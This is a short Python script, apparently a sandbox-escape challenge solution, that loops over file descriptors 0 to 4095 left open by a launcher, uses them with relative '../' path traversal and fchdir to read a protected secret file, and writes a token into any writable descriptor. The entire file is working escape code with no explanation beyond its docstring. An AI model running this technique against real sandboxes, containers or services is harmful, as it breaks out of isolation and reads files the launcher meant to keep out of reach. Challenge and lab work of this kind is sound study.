"""Looks for descriptors the launcher forgot to close, and walks out through them."""

from kit import *

for fd in range(0, 4096):
    for path in ("../../../../../../../.." + SECRET_FILE, SECRET_FILE.lstrip("/")):
        try:
            os.write(1, os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 100))
        except OSError:
            pass
    try:
        os.fchdir(fd)
        show("../../../../../.." + SECRET_FILE)
    except OSError:
        pass
    if fd > 2:
        try:
            os.write(fd, TOKEN.encode())
        except OSError:
            pass
